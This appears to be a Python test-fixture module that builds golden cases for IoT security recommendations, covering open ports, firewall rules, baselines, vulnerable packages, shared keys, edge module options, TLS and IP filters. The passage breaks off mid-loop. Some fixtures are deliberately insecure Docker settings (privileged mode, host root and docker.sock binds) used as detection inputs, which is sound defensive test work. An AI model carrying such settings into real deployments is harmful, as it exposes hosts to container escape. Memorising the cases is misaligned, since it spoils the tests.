"""The golden cases of recommendations, and the scenarios in which several findings meet. Part of detect_cases.py. A device's (or
hub's) case: positive = active at the end, negative = never, resolved = was active, and is no longer."""
import json
from detect_input import *

WINDOW = 72 * HOUR
FIXED = {"minTlsVersion": "1.2", "ipFilterRules": [{"filterName": "rest", "action": "Reject", "ipMask": "0.0.0.0/0"}],
         "diagnosticSettings": [{"name": "d", "workspaceId": "w", "logs": [
             {"category": name, "enabled": True, "retentionPolicy": {"enabled": True, "days": 365}} for name in ("Connections", "DeviceTelemetry")]}]}


def snapshots(log, name, bad, good, **more):
    """What each snapshot-based recommendation goes through."""
    log.snapshot("positive", name, bad, **more).snapshot("negative", name, good, **more)
    log.snapshot("resolved", name, bad, **more).snapshot("resolved", name, good, 600, **more)
    log.snapshot("positive-again", name, bad, **more).snapshot("positive-again", name, good, 600, **more).snapshot("positive-again", name, bad, 1200, **more)
    log.snapshot("negative-out-of-order", name, good, 600, **more).snapshot("negative-out-of-order", name, bad, 300, delay=400, **more)
    log.snapshot("late", name, bad, delay=WINDOW + 1, **more).snapshot("boundary-in-age", name, bad, delay=WINDOW, **more)
    once = log.event(name, bad, 5, category="Periodic", empty=not bad, **more)
    log.message("positive-duplicate", 6, once).message("positive-duplicate", 7, once)
    once = log.event(name, bad, 6, category="Periodic", empty=not bad, **more)
    log.message("replayed", 7, once).snapshot("replayed", name, good, 60, **more).message("replayed", DAY, once)


def parts(log, device, name, *lists, second=0, snapshot="s1", **more):
    """One snapshot in as many messages as there are lists, as an agent of ours sends what is too long for one."""
    for number, rows in enumerate(lists, 1):
        own = {"SnapshotId": snapshot, "SnapshotPart": f"{number}/{len(lists)}"}
        rows = [row | {"ExtraDetails": row.get("ExtraDetails", {}) | own} for row in rows]
        log.snapshot(device, name, rows, second + number - 1, **more)


LONG = {"posture.freshness": "P30D"}  # beside what comes three days late, the rest stays as it is


def device_posture(write):
    port = lambda number, address=None, protocol="tcp": {"Protocol": protocol, "LocalPort": str(number)} | ({"LocalAddress": address} if address else {})
    log = Log("R01")
    snapshots(log, "ListeningPorts", [port(25324, "0.0.0.0"), port(80, "0.0.0.0"), port(80, "::", "tcp6")], [port(631, "127.0.0.1"), port(25, "::1", "tcp6")])
    log.snapshot("positive-no-address", "ListeningPorts", [port(8888)]).snapshot("negative-raw", "ListeningPorts", [port(58, "0.0.0.0", "raw")])
    log.snapshot("negative-empty", "ListeningPorts", []).snapshot("boundary-out-loopback", "ListeningPorts", [port(80, "127.255.255.254")])
    log.snapshot("boundary-in-loopback", "ListeningPorts", [port(80, "128.0.0.1")]).snapshot("negative-allowed", "ListeningPorts", [port(22, "0.0.0.0")])
    parts(log, "positive-parts", "ListeningPorts", [port(8888)], [port(631, "127.0.0.1")])
    parts(log, "negative-half", "ListeningPorts", [port(8888)], [port(631, "127.0.0.1")])
    log.rows = [row for row in log.rows if not (row[2].get("device") == "negative-half" and "2/2" in json.dumps(row[2]))]
    write("R01_IoT_OpenPorts", log, settings={"allowedPorts": ["tcp/22"]} | LONG)
    # Two days without a snapshot: nothing is known any more.
    log = Log("R01-freshness")
    for device in ("resolved", "positive-fresh", "positive-back"):
        log.snapshot(device, "ListeningPorts", [port(8888)])
    log.snapshot("positive-fresh", "ListeningPorts", [port(8888)], DAY)
    log.operation("noise", 2 * DAY + HOUR).snapshot("positive-back", "ListeningPorts", [port(8888)], 2 * DAY + 2 * HOUR)
    log.operation("noise", 3 * DAY - HOUR)
    write("R01-freshness_IoT_OpenPorts", log)

    def rule(chain, action="Allow", **more):
        return {"Enabled": True, "Action": action, "Direction": "In" if chain == "INPUT" else "Out", "ChainName": chain} | more
    policy = lambda i, o: [rule("INPUT", i, Priority=9), rule("OUTPUT", o, Priority=9)]
    log = Log("R02")
    snapshots(log, "FirewallConfiguration", policy("Allow", "Deny"), policy("Deny", "Deny"))
    log.snapshot("positive-output", "FirewallConfiguration", policy("Deny", "Allow"))
    log.snapshot("negative-unknown", "FirewallConfiguration", [rule("INPUT", SourceAddress="10.0.0.9", DestinationPort="22")])
    log.snapshot("negative-empty", "FirewallConfiguration", [])
    log.snapshot("boundary-out-not-last", "FirewallConfiguration", [rule("INPUT"), rule("INPUT", "Deny", Priority=9)])
    write("R02_IoT_PermissiveFirewallPolicy", log, settings=LONG)

    for name, chain, address in (("R03_IoT_PermissiveInputFirewallRules", "INPUT", "SourceAddress"), ("R04_IoT_PermissiveOutputFirewallRules", "OUTPUT", "DestinationAddress")):
        log = Log(name)
        end = [rule(chain, "Deny", Priority=9)]
        one = lambda **more: [rule(chain, **{"DestinationPort": "1337", address: "203.0.113.9"} | more)] + end
        snapshots(log, "FirewallConfiguration", [rule(chain, DestinationPort="1337")] + end, one())
        for case, wide, fine in (("prefix", {address: "203.0.0.0/15"}, {address: "203.0.0.0/16"}), ("six", {address: "2001:db8::/47"}, {address: "2001:db8::/48"}),
                                 ("ports", {"DestinationPort": "1000-2024"}, {"DestinationPort": "1000-2023"}), ("private", {address: "11.0.0.0/8"}, {address: "10.0.0.0/8"}),
                                 ("range", {address: "203.0.0.0-203.1.0.0"}, {address: "203.0.0.0-203.0.255.255"}), ("negated", {address: "!203.0.113.9"}, {address: "Local subnet"})):
            log.snapshot(f"boundary-in-{case}", "FirewallConfiguration", one(**wide)).snapshot(f"boundary-out-{case}", "FirewallConfiguration", one(**fine))
        for case, more in (("loopback", {"ExtraDetails": {"in-interface": "lo"}}), ("state", {"ExtraDetails": {"state": "RELATED,ESTABLISHED"}}),
                           ("echo", {"Protocol": "icmp", "ExtraDetails": {"icmp-type": "echo-request"}}), ("disabled", {"Enabled": False}), ("other", {"Action": "Other"})):
            log.snapshot(f"negative-{case}", "FirewallConfiguration", [rule(chain) | {address: "0.0.0.0/0"} | more] + end)
        log.snapshot("negative-shadowed", "FirewallConfiguration", [rule(chain, "Deny", DestinationPort="80"), rule(chain, DestinationPort="80")] + end)
        write(name, log, settings=LONG)

    check = lambda result, severity: {"Description": "d", "CceId": "CCE-1-1", "Result": result, "Error": "e", "Severity": severity}
    log = Log("R05")
    sample = [check("Err", "Critical"), check("Fail", "Informational"), check("Fail", "Informational")] + [check("Fail", "Critical")] * 3 + [check("Fail", "Warning")]
    snapshots(log, "OSBaseline", sample, [])
    log.snapshot("negative-passed", "OSBaseline", [check("Pass", "Critical")]).snapshot("positive-spelling", "OSBaseline", [check("FAIL", "Important"), check("ERR", "Warning")])
    micro = {"BaselineCheckId": "CIS-debian-9-Filesystem-1.1.2", "BaselineCheckDescription": "d", "Error": "e", "Severity": "Critical"}
    log.snapshot("positive-micro", "Baseline", [micro | {"BaselineCheckResult": "FAIL"}, micro | {"BaselineCheckResult": "ERROR"}, micro | {"BaselineCheckResult": "PASS"}], version="2.0")
    log.snapshot("negative-micro", "Baseline", [micro | {"BaselineCheckResult": "SKIP"}, micro | {"BaselineCheckResult": "PASS"}], version="2.0")
    parts(log, "positive-parts", "OSBaseline", [check("Fail", "Critical"), check("Fail", "Critical")], [check("Fail", "Warning")])
    write("R05_IoT_Baseline", log, settings=LONG)


def agent_state(write):
    operational = {"category": "Periodic", "kind": "Operational"}
    sent = lambda total, small: {"MessagesSent": total, "MessagesUnder4KB": small, "TotalFailed": 0}
    log = Log("R06")
    log.send("positive", "MessageStatistics", sent(100, 50), **operational).send("negative", "MessageStatistics", sent(100, 2), **operational)
    log.send("boundary-in", "MessageStatistics", sent(100, 10), **operational).send("boundary-out", "MessageStatistics", sent(100, 9), **operational)
    log.send("negative-none", "MessageStatistics", sent(0, 0), **operational)
    log.send("resolved", "MessageStatistics", sent(10, 10), **operational).send("resolved", "MessageStatistics", sent(990, 0), HOUR, **operational)
    log.send("resolved-next-day", "MessageStatistics", sent(10, 10), **operational).send("resolved-next-day", "MessageStatistics", sent(10, 0), DAY, **operational)
    log.send("boundary-in-same-day", "MessageStatistics", sent(10, 10), **operational).send("boundary-in-same-day", "MessageStatistics", sent(10, 0), DAY - 1, **operational)
    log.send("late", "MessageStatistics", sent(10, 10), delay=WINDOW + 1, **operational)
    once = log.event("MessageStatistics", sent(100, 10), 5, **operational)
    log.message("positive-duplicate", 6, once).message("positive-duplicate", 9, once)
    # Nothing is said for a day: the sizes of what came in count.
    log.send("positive-measured", "ProcessCreate", process("ls")).send("positive-measured", "ProcessCreate", process("ls"), DAY + 1)
    log.send("boundary-out-measured", "ProcessCreate", process("ls")).send("boundary-out-measured", "ProcessCreate", process("ls"), DAY - 60)
    write("R06_IoT_AgentSendsUnutilizedMessages", log)

    configuration = {"ms_iotn:urn_azureiot_Security_SecurityAgentConfiguration": {"snapshotFrequency": {"value": "PT1H"}}}
    for name, kind, other in (("R07_IoT_SecurityTwinConfigurationNotOptimal", "NotOptimal", "Conflict"), ("R08_IoT_SecurityTwinConfigurationConflict", "Conflict", "NotOptimal")):
        log = Log(name)
        error = lambda error_type, name="snapshotFrequency": {"ConfigurationName": name, "ErrorType": error_type, "UsedConfiguration": "PT1H", "Message": "m"}
        more = {"kind": "Operational"}
        log.send("positive", "ConfigurationError", [error(kind), error(kind, "maxMessageSizeInBytes")], **more)
        log.send("negative", "ConfigurationError", error(other), **more).send("negative-mismatch", "ConfigurationError", error("TypeMismatch"), **more)
        log.send("resolved", "ConfigurationError", error(kind), **more)
        log.twin("resolved", 60, "desired", configuration, "azureiotsecurity").twin("resolved", 61, "reported", configuration, "azureiotsecurity")
        log.send("positive-disagrees", "ConfigurationError", error(kind), 2 * DAY, **more)
        log.twin("positive-disagrees", 2 * DAY + 60, "desired", configuration, "azureiotsecurity")
        log.send("boundary-in", "ConfigurationError", error(kind), DAY + 3 * HOUR, **more)
        log.send("resolved-after-a-day", "ConfigurationError", error(kind), **more)
        log.send("late", "ConfigurationError", error(kind), delay=WINDOW + 1, **more)
        once = log.event("ConfigurationError", error(kind), 2 * DAY, **more)
        log.message("positive-duplicate", 2 * DAY + 1, once).message("positive-duplicate", 2 * DAY + 2, once)
        log.rows = [row for row in log.rows if not (row[2].get("device") == "positive")]
        log.send("positive", "ConfigurationError", [error(kind), error(kind, "maxMessageSizeInBytes")], 2 * DAY, **more)
        log.rows = [row for row in log.rows if row[2].get("device") not in ("late", "boundary-in")]
        write(name, log)

    lost = lambda collected, dropped, queue="High": {"Queue": queue, "CollectedEvents": collected, "DroppedEvents": dropped}
    log = Log("R22")
    log.send("positive", "DroppedEventsStatistics", [lost(100, 50), lost(100, 0, "Low")], **operational).send("negative", "DroppedEventsStatistics", lost(100, 1), **operational)
    log.send("boundary-in", "DroppedEventsStatistics", lost(100, 5), **operational).send("boundary-out", "DroppedEventsStatistics", lost(1000, 49), **operational)
    log.send("resolved", "DroppedEventsStatistics", lost(10, 5), **operational).send("resolved", "DroppedEventsStatistics", lost(990, 0), HOUR, **operational)
    log.send("negative-queues-apart", "DroppedEventsStatistics", [lost(1000, 49), lost(1000, 49, "Low")], **operational)
    write("R22_IoT_X_DroppedEvents", log)

    log = Log("R21")
    for device, version, module in (("positive", "1.0.9", "azureiotsecurity"), ("negative", "1.0.11", "azureiotsecurity"), ("boundary-out", "1.0.10", "azureiotsecurity"), ("boundary-in-preview", "1.0.10-rc1", "azureiotsecurity"), ("boundary-out-prefix", "v1.0.10", "azureiotsecurity"),
                                    ("positive-micro", "4.1.0", "defender-iot-micro-agent"), ("negative-micro", "4.10.0", "defender-iot-micro-agent")):
        log.message(device, 1, log.event("ProcessCreate", process("ls"), 0), module=module, agent_version=version)
    log.message("resolved", 1, log.event("ProcessCreate", process("ls"), 0), agent_version="1.0.9")
    log.message("resolved", 9, log.event("ProcessCreate", process("ls"), 8), agent_version="1.0.10")
    write("R21_IoT_X_OutdatedAgent", log, settings={"agent.minimumVersion": "1.0.10", "agent.minimumMicroVersion": "4.2"})

    package = lambda version, name="openssl": {"Name": name, "Version": version, "Vendor": "Debian"}
    log = Log("R23")
    snapshots(log, "SBoM", [package("3.0.9-1"), package("1.0", "zlib")], [package("3.0.11-1~deb12u2")], version="2.0")
    log.snapshot("boundary-in", "SBoM", [package("3.0.11-1~deb12u1")], version="2.0").snapshot("negative-epoch", "SBoM", [package("1:1.0")], version="2.0")
    log.snapshot("negative-other", "SBoM", [package("0.1", "openssh")], version="2.0")
    parts(log, "positive-parts", "SBoM", [package("3.0.9-1")], [package("1.0", "zlib")], version="2.0")
    write("R23_IoT_X_VulnerablePackage", log, settings={"vulnerabilities": [{"package": "openssl", "fixed": "3.0.11-1~deb12u2", "id": "CVE-2023-5678"}]})
    advisories(write)


def advisories(write):
    """Each form of advisory, each order of versions, what outweighs them, and what a device's ports add."""
    log = Log("R23-advisories")
    def deb(name, version, source=""):
        return {"Name": name, "Version": version, "Vendor": "Debian", "ExtraDetails": {"Type": "deb"} | ({"Source": source} if source else {})}
    def other(kind, name, version):
        return {"Name": name, "Version": version, "ExtraDetails": {"Type": kind}}
    def system(device, distribution, version):
        log.snapshot(device, "SystemInformation", [{"OSName": "Linux", "OSVersion": "6.1", "OsArchitecture": "x86_64", "ExtraDetails": {"OsDist": distribution, "OsDistVersion": version}}])
    bad, good = [deb("libssl3", "3.0.9-1", "openssl"), deb("openssl", "3.0.9-1"), deb("zlib1g", "1:1.2.13", "zlib")], [deb("libssl3", "3.0.11-1~deb12u2", "openssl")]
    for device in ("positive", "negative", "resolved", "positive-again", "positive-duplicate", "replayed", "late", "boundary-in-age", "negative-out-of-order",
                   "positive-exposed", "resolved-gone", "boundary-in", "boundary-out", "positive-parts", "negative-vex", "positive-vex-other-version"):
        system(device, "debian", "12")
    snapshots(log, "SBoM", bad, good, version="2.0")
    log.snapshot("boundary-in", "SBoM", [deb("openssl", "3.0.11-1~deb12u1")], version="2.0").snapshot("boundary-out", "SBoM", good, version="2.0")
    log.snapshot("resolved-gone", "SBoM", bad, version="2.0").snapshot("resolved-gone", "SBoM", [], 60, version="2.0")
    log.snapshot("positive-exposed", "SBoM", [deb("openssl", "3.0.9-1")], version="2.0").snapshot("positive-exposed", "ListeningPorts", [{"Protocol": "tcp", "LocalAddress": "0.0.0.0", "LocalPort": "443"}], 30)
    part = lambda row, text: row | {"ExtraDetails": row["ExtraDetails"] | {"SnapshotId": "s1", "SnapshotPart": text}}
    log.snapshot("positive-parts", "SBoM", [part(deb("zlib1g", "1:1.3"), "1/2")], version="2.0").snapshot("positive-parts", "SBoM", [part(deb("openssl", "3.0.9-1"), "2/2")], 1, version="2.0")
    log.snapshot("negative-half", "SBoM", [part(deb("openssl", "3.0.9-1"), "2/2")], version="2.0")
    log.snapshot("positive-no-release", "SBoM", [deb("openssl", "1.1.1n-0")], version="2.0").snapshot("negative-no-release", "SBoM", [deb("openssl", "3.0.9-1")], version="2.0")
    log.snapshot("negative-vex", "SBoM", [deb("curl", "7.88.1-10")], version="2.0").snapshot("positive-vex-other-version", "SBoM", [deb("curl", "7.88.1-9")], version="2.0")
    for device in ("positive-apk", "negative-apk"):
        system(device, "alpine", "3.18.4")
    log.snapshot("positive-apk", "SBoM", [other("apk", "busybox", "1.36.1-r1")], version="2.0").snapshot("negative-apk", "SBoM", [other("apk", "busybox", "1.36.1-r2")], version="2.0")
    for device in ("positive-rpm", "negative-rpm", "negative-rpm-other-release"):
        system(device, "rhel", "9.1" if "other" in device else "8.6")
    log.snapshot("positive-rpm", "SBoM", [other("rpm", "openssl", "1:1.1.1k-5.el8")], version="2.0")
    for device in ("negative-rpm", "negative-rpm-other-release"):
        log.snapshot(device, "SBoM", [other("rpm", "openssl", "1:1.1.1k-6.el8_5" if device == "negative-rpm" else "1:1.0-1")], version="2.0")
    log.snapshot("positive-npm", "SBoM", [other("npm", "@acme/lib", "1.2.0-rc.1")], version="2.0").snapshot("negative-npm", "SBoM", [other("npm", "@acme/lib", "1.2.0")], version="2.0")
    helper = lambda **named: {"product_identification_helper": named}
    write("R23-advisories_IoT_X_VulnerablePackage", log, advisories={
        "osv": [{"schema_version": "1.6.0", "id": "ALPINE-CVE-2023-42366", "upstream": ["CVE-2023-42366"], "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:H"}],
                 "affected": [{"package": {"ecosystem": "Alpine:v3.18", "name": "busybox"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.36.1-r2"}]}]}]}],
        "debian": {"openssl": {"CVE-2023-5363": {"releases": {"bookworm": {"status": "resolved", "fixed_version": "3.0.11-1~deb12u2", "urgency": "high"},
                                                               "bullseye": {"status": "resolved", "fixed_version": "1.1.1w-0", "urgency": "high"}}},
                               "CVE-2007-6755": {"releases": {"bookworm": {"status": "open", "urgency": "unimportant"}}}},
                   "curl": {"CVE-2023-38545": {"releases": {"bookworm": {"status": "open", "urgency": "low"}}}}},
        "csaf": {"document": {"category": "csaf_vex", "csaf_version": "2.0"}, "product_tree": {
            "branches": [{"category": "product_name", "name": "RHEL", "product": {"product_id": "el8"} | helper(cpe="cpe:/o:redhat:enterprise_linux:8::baseos")},
                         {"category": "product_version", "name": "o", "product": {"product_id": "o"} | helper(purl="pkg:rpm/redhat/openssl@1.1.1k-6.el8_5?epoch=1")},
                         {"category": "product_version_range", "name": "vers:npm/>=1.0.0|<1.2.0", "product": {"product_id": "lib"} | helper(purl="pkg:npm/%40acme/lib")},
                         {"category": "product_version", "name": "c", "product": {"product_id": "c"} | helper(purl="pkg:deb/debian/curl@7.88.1-10")}],
            "relationships": [{"category": "default_component_of", "full_product_name": {"product_id": "el8:o"}, "product_reference": "o", "relates_to_product_reference": "el8"}]},
            "vulnerabilities": [{"cve": "CVE-2021-3712", "scores": [{"cvss_v3": {"baseScore": 7.4}}], "product_status": {"fixed": ["el8:o"]}},
                                {"cve": "CVE-2024-9999", "product_status": {"known_affected": ["lib"]}},
                                {"cve": "CVE-2023-38545", "product_status": {"known_not_affected": ["c"]}}]},
        "kev": {"title": "CISA Catalog of Known Exploited Vulnerabilities", "catalogVersion": "2026.01.01", "vulnerabilities": [{"cveID": "CVE-2023-5363"}]}})


def identities(write):
    log = Log("R09")
    log.identity("positive-a", keys=["k1", "k2"]).identity("positive-b", 1, keys=["k3", "k1"]).identity("negative", 2, keys=["k4", "k5"])
    log.identity("negative-same-in-itself", 3, keys=["k6", "k6"])
    log.identity("positive-print-a", 4, thumbprints=["AB" * 20, ""]).identity("positive-print-b", 5, thumbprints=["CD" * 20, ":".join(["ab"] * 20)])
    log.identity("positive-disabled-a", 6, keys=["k7", "k8"], status="disabled").identity("positive-disabled-b", 7, keys=["k8", "k9"])
    log.identity("positive-modules", 8, keys=["k10", "k11"]).identity("positive-modules", 9, module="m1", keys=["k12", "k13"])
    log.identity("positive-modules", 10, module="m2", keys=["k13", "k14"])
    log.identity("resolved-a", 11, keys=["k15", "k16"]).identity("resolved-b", 12, keys=["k16", "k17"]).identity("resolved-b", 60, change="update", keys=["k18", "k19"])
    log.identity("resolved-c", 13, keys=["k20", "k21"]).identity("resolved-d", 14, keys=["k20", "k22"]).identity("resolved-d", 61, change="delete")
    log.operation("positive-cert-a", 20, certThumbprint="EF" * 20).operation("positive-cert-b", 21, certThumbprint="EF" * 20)
    log.operation("negative-cert", 22, certThumbprint="12" * 20).operation("negative-cert-refused", 23, result="401003", certThumbprint="EF" * 20)
    log.identity("positive-duplicate", 30, keys=["k1", "k30"]).identity("positive-duplicate", 31, keys=["k1", "k30"])
    write("R09_IoT_SharedCredentials", log)

    log = Log("R19")
    log.identity("positive").identity("negative").identity("negative", 1, module="azureiotsecurity").send("negative", "ProcessCreate", process("ls"), 5)
    log.identity("negative-waits", 0).identity("negative-waits", 1, module="defender-iot-micro-agent")
    log.identity("negative-disabled", 0, status="disabled")
    log.identity("resolved", 0).identity("resolved", HOUR, module="azureiotsecurity")
    log.identity("resolved-deleted", 0).identity("resolved-deleted", HOUR, change="delete")
    log.identity("positive-other-module", 0).identity("positive-other-module", 1, module="camera")
    write("R19_IoT_InstallAgent", log)
    log = Log("R19-day")
    for device in ("positive", "resolved"):
        log.identity(device).identity(device, 1, module="azureiotsecurity")
    log.identity("negative-just-reported").identity("negative-just-reported", 1, module="azureiotsecurity").send("negative-just-reported", "ProcessCreate", process("ls"), DAY - 5)
    log.send("resolved", "ProcessCreate", process("ls"), DAY + 60)
    write("R19-day_IoT_InstallAgent", log)


def deployment(modules=None, credentials=None, hub_env=None):
    module = lambda options, **more: {"type": "docker", "status": "running", "restartPolicy": "always",
                                      "settings": {"image": "registry.example/app:1", "createOptions": json.dumps(options)}} | more
    system = {"edgeAgent": module({"HostConfig": {"Binds": ["/var/run/docker.sock:/var/run/docker.sock"]}}), "edgeHub": module({}) | ({"env": hub_env} if hub_env else {})}
    return {"schemaVersion": "1.1", "runtime": {"type": "docker", "settings": {"minDockerVersion": "v1.25", "registryCredentials": credentials or {}}},
            "systemModules": system, "modules": {name: module(value) if not callable(value) else value(module) for name, value in (modules or {}).items()}}


def edge(write):
    def agent(log, device, second=0, **more):
        return log.twin(device, second, "desired", deployment(**more), "$edgeAgent")
    log = Log("R10")
    host = lambda **options: {"app": {"HostConfig": options}}
    agent(log, "positive", modules=host(Privileged=True)), agent(log, "negative", modules=host(Privileged=False))
    agent(log, "positive-capability", modules=host(CapAdd=["CAP_SYS_ADMIN"])), agent(log, "boundary-out", modules=host(CapAdd=["NET_BIND_SERVICE"]))
    agent(log, "positive-network", modules=host(NetworkMode="host")), agent(log, "positive-pid", modules=host(PidMode="host", IpcMode="host"))
    agent(log, "positive-bind", modules=host(Binds=["/:/host"])), agent(log, "negative-bind", modules=host(Binds=["/data:/data"]))
    agent(log, "positive-socket", modules=host(Binds=["/var/run/docker.sock:/s"])), agent(log, "negative-agent-itself")
    split = json.dumps({"HostConfig": {"Privileged": True}})
    agent(log, "positive-split", modules={"app": lambda module: module({}) | {"settings": {"image": "i", "createOptions": split[:9], "createOptions01": split[9:]}}})
    agent(log, "resolved", modules=host(Privileged=True)), agent(log, "resolved", 60, modules=host())
    agent(log, "positive-duplicate", modules=host(Privileged=True)), agent(log, "positive-duplicate", 1, modules=host(Privileged=True))
    log.twin("negative-other-module", 0, "desired", deployment(modules=host(Privileged=True)), "app")
    log.twin("negative-reported", 0, "reported", deployment(modules=host(Privileged=True)), "$edgeAgent")
    write("R10_IoT_PrivilegedDockerOptions", log)

    log = Log("R11")
    registry = lambda user, address="plant.azurecr.io": {"credentials": {"r": {"username": user, "password": "never shown", "address": address}}}
    agent(log, "positive", **registry("plant")), agent(log, "negative", **registry("0f8fad5b-d9cb-469f-a165-70867728950e"))
    agent(log, "boundary-in", **registry("0f8fad5b-d9cb-469f-a165-7086772895")), agent(log, "negative-own-registry", **registry("plant", "registry.plant.example"))
    agent(log, "positive-scheme-port", **registry("plant", "https://Plant.azurecr.io:443/team"))
    agent(log, "negative-elsewhere", **registry("plant", "plant.azurecr.io.example"))
    agent(log, "resolved", **registry("plant")), agent(log, "resolved", 60)
    write("R11_IoT_ACRAuthentication", log)

    log = Log("R18")
    agent(log, "positive", modules=host(LogConfig={"Type": "none"})), agent(log, "negative", modules=host(LogConfig={"Type": "json-file"})), agent(log, "boundary-out", modules=host())
    agent(log, "resolved", modules=host(LogConfig={"Type": "none"})), agent(log, "resolved", 60, modules=host())
    write("R18_IoT_EdgeLoggingOptions", log)

    log = Log("R16")
    image = lambda tag: {"app": lambda module: module({}) | {"settings": {"image": f"app:{tag}", "createOptions": "{}"}}}
    for group, devices in (("a", [("negative-1", 1), ("negative-2", 1), ("positive", 2)]), ("b", [("boundary-out-1", 1), ("boundary-out-2", 2)]),
                           ("c", [("negative-3", 1), ("negative-4", 1), ("boundary-out-3", 2), ("boundary-out-4", 2)]),
                           ("d", [("negative-5", 1), ("negative-6", 1), ("resolved", 2)])):
        for device, tag in devices:
            log.twin(device, 0, "tags", {"SecurityGroup": group})
            agent(log, device, 1, modules=image(tag))
    agent(log, "resolved", 60, modules=image(1))
    agent(log, "negative-no-group", 1, modules=image(2))
    pump = lambda tag: {"pump": image(tag)["app"]}
    for device, tag, group in (("negative-default-1", 1, None), ("negative-default-2", 1, "Default"), ("positive-default", 2, None)):
        if group:
            log.twin(device, 0, "tags", {"SecurityGroup": group})
        agent(log, device, 1, modules=pump(tag))
    write("R16_IoT_InconsistentModuleSettings", log)

    log = Log("R17")
    week = 7 * DAY
    for device in ("positive", "boundary-out", "negative", "resolved"):
        agent(log, device)
    agent(log, "negative-switched-off", hub_env={f"{name}Settings__enabled": {"value": "false"} for name in ("amqp", "mqtt", "http")})
    log.identity("child", 1, parentScopes=["ms-azure-iot-edge://negative-638000000000000000"])
    for protocol in ("Mqtt", "AmqpWs", "Https"):
        log.operation("child", 2 * DAY, protocol=protocol)
        log.operation("boundary-out", 6 * HOUR, module="app", protocol=protocol)
    log.operation("positive", 3 * DAY, module="app", protocol="Mqtt").operation("positive", 3 * DAY, module="$edgeHub", protocol="Amqp")
    log.operation("noise", week + HOUR)
    for protocol in ("Mqtt", "Amqp", "Https"):
        log.operation("resolved", week + 90 * 60, module="app", protocol=protocol)
    write("R17_IoT_EdgeHubMemOptimize", log)


def hubs(write):
    def hub_case(name, bad, good, extra=()):
        """Hub-level cases are logs of their own: the file's name says what must come of it."""
        for case, settings in [("positive", bad), ("negative", good), *extra]:
            write(f"{name}".replace("_", f"-{case}_", 1), Log(f"{name}/{case}").hub(0, **FIXED | settings))
        write(name.replace("_", "-resolved_", 1), Log(name + "/resolved").hub(0, **FIXED | bad).hub(600, **FIXED | good))
        write(name.replace("_", "-positive-duplicate_", 1), Log(name + "/duplicate").hub(0, **FIXED | bad).hub(1, **FIXED | bad))
    hub_case("R12_IoT_VulnerableTLSCipherSuite", {"minTlsVersion": "1.1"}, {"minTlsVersion": "1.2"},
             [("boundary-in-absent", {"minTlsVersion": None}), ("boundary-out-newer", {"minTlsVersion": "1.3"}), ("positive-zero", {"minTlsVersion": "1.0"})])
    log = Log("R12-device")
    for device, version, suite in (("positive", "1.0", "ECDHE-RSA-AES128-GCM-SHA256"), ("positive-suite", "TLSv1.2", "TLS_RSA_WITH_AES_128_CBC_SHA"),
                                   ("positive-rc4", "TLSv1.2", "ECDHE-RSA-RC4-SHA"), ("positive-static", "TLSv1.2", "AES256-GCM-SHA384"), ("negative", "TLSv1.3", "TLS_AES_256_GCM_SHA384"),
                                   ("boundary-in-version", "TLSv1.1", "ECDHE-RSA-AES128-GCM-SHA256"), ("boundary-out-version", "TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"),
                                   ("boundary-out-cbc", "TLSv1.2", "ECDHE-RSA-AES128-SHA256"), ("negative-unsaid", "", "")):
        log.operation(device, DAY, tlsVersion=version, cipherSuite=suite)
    log.operation("resolved", HOUR, tlsVersion="1.0", cipherSuite="ECDHE-RSA-AES128-GCM-SHA256").operation("noise", DAY + 90 * 60)
    log.operation("negative-refused", DAY, result="401003", tlsVersion="1.0")
    write("R12-device_IoT_VulnerableTLSCipherSuite", log)
    rules = lambda *rows: {"ipFilterRules": [{"filterName": f"r{i}", "action": action, "ipMask": mask} for i, (action, mask) in enumerate(rows)]}
    hub_case("R13_IoT_IPFilter_DenyAll", rules(), rules(("Accept", "203.0.113.0/24"), ("Reject", "0.0.0.0/0")),
             [("positive-single-rejects", rules(("Reject", "203.0.113.7"))), ("positive-accept-first", rules(("Accept", "0.0.0.0/0"), ("Reject", "0.0.0.0/0"))),
              ("negative-halves", rules(("Reject", "0.0.0.0/1"), ("Reject", "128.0.0.0/1"))), ("boundary-in-half", rules(("Reject", "0.0.0.0/1"))),
              ("negative-no-public-access", rules() | {"publicNetworkAccess": "Disabled"}), ("negative-deny", rules() | {"networkRuleSets": {"defaultAction": "Deny"}}),
              ("positive-allow", rules() | {"networkRuleSets": {"defaultAction": "Allow"}})])
    deny = ("Reject", "0.0.0.0/0")
    hub_case("R14_IoT_IPFilter_PermissiveRule", rules(("Accept", "10.0.0.0/8"), deny), rules(("Accept", "203.0.113.0/24"), deny),
             [("boundary-in", rules(("Accept", "203.0.0.0/15"), deny)), ("boundary-out", rules(("Accept", "203.0.0.0/16"), deny)), ("negative-reject", rules(("Reject", "10.0.0.0/8"))),
              ("negative-shadowed", rules(("Reject", "0.0.0.0/0"), ("Accept", "10.0.0.0/8"))), ("positive-half-shadowed", rules(("Reject", "10.0.0.0/9"), ("Accept", "10.0.0.0/8"), deny))])
    logs = lambda days, *names, destination=True: {"diagnosticSettings": [{"name": "d", **({"workspaceId": "w"} if destination else {}), "logs": [
        {"category": name, "enabled": True, "retentionPolicy": {"enabled": days > 0, "days": days}} for name in names]}]}
    both = ("Connections", "DeviceTelemetry")
    hub_case("R20_IoT_DiagnosticsLogsDisabled", {"diagnosticSettings": []}, logs(0, *both),
             [("positive-one-category", logs(0, "Connections")), ("boundary-in", logs(364, *both)), ("boundary-out", logs(365, *both)), ("positive-nowhere", logs(0, *both, destination=False))])
    narrow = rules(("Accept", "198.51.100.0/24"), deny) | {"fieldwatch": {"maskAddresses": False}}
    wide = rules(("Accept", "198.51.100.0/24"), ("Accept", "203.0.113.0/24"), deny) | {"fieldwatch": {"maskAddresses": False}}
    for case, configuration, days, masked in (("positive", wide, 7, False), ("boundary-out", wide, 6, False), ("negative-masked", wide, 8, True)):
        log = Log("R15/" + case).hub(0, **FIXED | configuration | {"fieldwatch": {"maskAddresses": masked}})
        for day in range(days + 1):
            for host in (7, 9, 200):
                log.operation(f"d{host}", 60 + day * DAY, ipAddress=f"198.51.100.{host}")
        log.operation("d7", 120 + days * DAY)
        write(f"R15-{case}_IoT_RecommendedIpRulesByBaseLine", log)
    log = Log("R15/negative").hub(0, **FIXED | rules(*[("Accept", f"198.51.100.{host}") for host in (7, 9)], deny) | {"fieldwatch": {"maskAddresses": False}})
    for day in range(9):
        for host in (7, 9):
